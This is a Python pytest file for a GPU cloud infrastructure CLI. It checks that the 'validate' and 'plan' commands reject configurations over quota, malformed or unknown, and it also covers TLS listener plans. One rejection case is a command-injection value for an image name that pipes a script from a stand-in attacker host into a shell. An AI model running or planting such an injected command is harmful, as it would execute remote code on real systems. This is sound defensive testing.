"""What the cloud would refuse, `validate` refuses first (issue 28, point 2): quotas, provider
bounds, the shape of `secure:` values, settings the layout would ignore. Each case runs the
real CLI in-process (tests/hostile.py checks exit 2, the field path, no traceback, bounded
output), `validate` and `plan` alike."""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from gpu_infra.schema.stack import InferenceConfig
from gpu_infra_facts.regions import REGIONS, ZONES, ZONES_FILE, zone_belongs_to

from .conftest import (
    BASE_INFERENCE,
    BASE_TRAINING,
    PROJECT_DIR,
    STACKS_DIR,
    cluster_config,
    merged,
)
from .hostile import INFERENCE, TRAINING, Case, cli_command, replaced, run_in_process
from .test_hostile_schema import P, stack_text

FLEET = BASE_INFERENCE["fleet"]
MANY_CIDRS = [f"10.{i // 250}.{i % 250}.0/24" for i in range(1000)]


def fleet(**settings: Any) -> dict[str, Any]:
    return merged(BASE_INFERENCE, fleet={**FLEET, **settings})


REFUSED: dict[str, tuple[dict[str, Any] | str, str]] = {
    "admin-cidrs-1000": (merged(BASE_TRAINING, security={"admin_cidrs": MANY_CIDRS}),
                         f"{P}.security.admin_cidrs: the cluster security group would hold "
                         "1002 rules"),
    "client-cidrs-x-ports": (merged(BASE_INFERENCE, security={
        "service_ports": [8000, 8001], "client_cidrs": MANY_CIDRS[:120]}),
        f"{P}.security.client_cidrs: the load balancer security group would hold 241 rules"),
    "service-ports-100": (merged(BASE_INFERENCE, security={
        "service_ports": list(range(8000, 8100)), "client_cidrs": ["10.100.0.0/16"]}),
        f"{P}.security.service_ports: 100 ports make as many listeners; a load balancer "
        "takes 50"),
    "step-adjustment-1e12": (fleet(min_size=0, max_size=4, queue_scaling={"steps": [
        {"lower": 0, "adjustment": 10**12}]}),
        f"{P}.fleet.queue_scaling.steps[0].adjustment: 1000000000000 instances; a step adds "
        "at most max_size - min_size = 4"),
    "spot-price-1e-9": (replaced(TRAINING, "      spot_strategy: SpotAsPriceGo\n",
                                 "      spot_strategy: SpotWithPriceLimit\n"
                                 "      spot_price_limit: 1.0e-9\n"),
                        f"{P}.fleet.spot_price_limit: 1e-09 CNY/hour; at least 0.001"),
    "nas-extreme-1e12": (merged(BASE_TRAINING, storage={"shared_fs": {
        "enabled": True, "kind": "extreme", "capacity_gib": 10**12}}),
        f"{P}.storage.shared_fs.capacity_gib: 1000000000000 GiB; an extreme file system holds "
        "100 to 262144 GiB"),
    "image-id-100k": (merged(BASE_TRAINING, fleet={**BASE_TRAINING["fleet"], "image": {
        "id": "ubuntu_" + "a" * 100_000 + "_x64_20G_alibase_20250917.vhd"}}),
        f"{P}.fleet.image.id: string should have at most 128 characters"),
    "image-name-shell": (merged(BASE_TRAINING, fleet={**BASE_TRAINING["fleet"], "image": {
        "name": "gpu-$(curl evil.example|sh);`id`"}}),
        f"{P}.fleet.image.name: string should match pattern"),
    "expected-gib-of-no-bucket": (merged(BASE_INFERENCE, storage={"buckets": {
        "expected_gib": {"datasets": {"Standard": 100}}}}),
        f"{P}.storage.buckets.expected_gib.datasets: the layout creates no datasets bucket"),
    "zone-unknown": (merged(BASE_INFERENCE, network={
        "vpc_cidr": "10.2.0.0/16", "zones": ["cn-hangzhou-i", "cn-hangzhou-z"]}),
        f"{P}.network.zones: cn-hangzhou-z is not a zone gpu-infra knows in cn-hangzhou "
        "(zones.json, checked 2026-12-02"),
    **{f"secure-{name}": (replaced(INFERENCE, "      readiness_path: /health\n",
                                   f"      readiness_path: {{secure: {value}}}\n"),
                          f"{P}.serving.readiness_path: secure: must hold the "
                          "encrypted text")
       for name, value in (("number", "123"), ("null", "null"), ("mapping", "{a: 1}"))},
}
"""Stacks the cloud (or the layout) would refuse or ignore, and the line validate prints."""

CASES = [Case("cloud", f"{name}:{command}", (command, "{d}/Pulumi.bad.yaml"),
              {"Pulumi.bad.yaml": stack if isinstance(stack, str) else stack_text(stack)},
              expect=expect)
         for name, (stack, expect) in REFUSED.items() for command in ("validate", "plan")]


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_what_the_cloud_refuses_validate_refuses(case: Case, tmp_path: Path, capsys,
                                                 monkeypatch):
    run_in_process(case, tmp_path, capsys, monkeypatch)


@pytest.mark.parametrize("ports", [[443.5], [1e308], [0], [True]])
def test_policy_config_ports_are_whole_port_numbers(ports, tmp_path: Path, capsys, monkeypatch):
    config = {"no-world-ingress": {"publicListenerPorts": ports}}
    case = Case("policy-config", f"ports-{ports[0]}",
                ("plan", "training-dev", "--policy-config", "{d}/policy.json"),
                {"policy.json": json.dumps(config)}, expect="publicListenerPorts")
    run_in_process(case, tmp_path, capsys, monkeypatch)


@pytest.mark.parametrize("stack", ["inference-prod", "inference-ack"])
def test_the_security_group_rule_count_is_what_the_blocks_create(stack, plan_cluster):
    shipped = yaml.safe_load((STACKS_DIR / f"Pulumi.{stack}.yaml").read_text())
    cluster = {**shipped["config"]["gpu-infra:cluster"], "security": {
        "admin_cidrs": ["10.9.0.0/24", "10.9.1.0/24", "10.9.2.0/24"],
        "service_ports": [8000, 8001], "client_cidrs": ["10.100.0.0/16", "10.101.0.0/16"]}}
    config = cluster_config(cluster)
    assert isinstance(config, InferenceConfig)
    plan = plan_cluster(cluster)
    groups = {r.name: r.id for r in plan.resources
              if r.type.endswith("securityGroup:SecurityGroup")}
    per_group = {name: sum(1 for r in plan.resources if r.type.endswith(
        "securityGroupRule:SecurityGroupRule") and r.inputs["securityGroupId"] == gid)
                 for name, gid in groups.items()}
    assert sorted(per_group.values()) == sorted(config.security_group_rules().values())


def test_a_declared_zone_is_accepted_like_a_declared_instance_type():
    network = {"vpc_cidr": "10.2.0.0/16", "zones": ["cn-hangzhou-i", "cn-hangzhou-z"],
               "declared_zones": ["cn-hangzhou-z"], "vswitch_prefix": 22}
    config = cluster_config(merged(BASE_INFERENCE, network=network))
    assert config.network.zones == ["cn-hangzhou-i", "cn-hangzhou-z"]


def test_the_zone_list_names_its_source_and_every_region_has_zones():
    data = json.loads(ZONES_FILE.read_text())
    assert data["checked"] and "regions-and-zones" in data["source"]
    assert "DescribeZones" in data["unconfirmed"]
    assert set(data["confirmed_regions"]) <= REGIONS
    assert set(ZONES) == REGIONS
    assert all(zone_belongs_to(zone, region) for region, zones in ZONES.items()
               for zone in zones)


def test_warnings_are_capped_like_errors(tmp_path: Path, capsys, monkeypatch):
    """180 world-facing admin CIDRs in dev: each is a finding, within the rule quota."""
    cidrs = [f"{11 + i // 200}.{i % 200}.0.0/16" for i in range(180)]
    case = Case("bound", "warnings", ("validate", "{d}/Pulumi.many.yaml"),
                {"Pulumi.many.yaml": stack_text(merged(BASE_TRAINING, security={
                    "admin_cidrs": cidrs}))}, code=0, expect="... and 141 more finding(s)")
    run_in_process(case, tmp_path, capsys, monkeypatch)


@pytest.mark.slow  # the CLI as a process with its stdout closed
@pytest.mark.parametrize("command", ["plan", "validate"])
def test_a_closed_stdout_is_one_line_and_exit_2(command):
    result = subprocess.run(cli_command(command, "training-dev"), cwd=PROJECT_DIR,
                            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True,
                            timeout=60, preexec_fn=lambda: __import__("os").close(1))
    assert result.returncode == 2
    assert result.stderr.strip() == ("gpu-infra: cannot write the output: standard output is "
                                     "closed")


@pytest.mark.parametrize("kind", ["nlb", "alb"])
def test_an_internet_facing_stack_with_tls_plans_with_no_mandatory_violation(
        kind, tmp_path: Path, capsys, monkeypatch):
    """Public clients (a partner's range, 203.0.113.0/24) reach port 443 over TLS."""
    cluster = merged(BASE_INFERENCE, security={"service_ports": [443],
                                               "client_cidrs": ["203.0.113.0/24"]},
                     load_balancer={"kind": kind, "internet_facing": True, "tls": {
                         "certificate_id": "12345678-cn-hangzhou"}})
    case = Case("tls", kind, ("plan", "{d}/Pulumi.public.yaml", "--json", "{d}/plan.json"),
                {"Pulumi.public.yaml": stack_text(cluster)}, code=0,
                writes=frozenset({"plan.json"}))
    run_in_process(case, tmp_path, capsys, monkeypatch)
    plan = json.loads((tmp_path / "plan.json").read_text())
    listeners = [r["inputs"] for r in plan["resources"] if r["type"].endswith(":Listener")]
    assert [listener["listenerProtocol"] for listener in listeners] == [
        "TCPSSL" if kind == "nlb" else "HTTPS"]
    assert listeners[0]["securityPolicyId"] == "tls_cipher_policy_1_2_strict_with_1_3"
    mandatory = [v for v in plan["policy"] if v["level"] == "mandatory"]
    assert mandatory == []
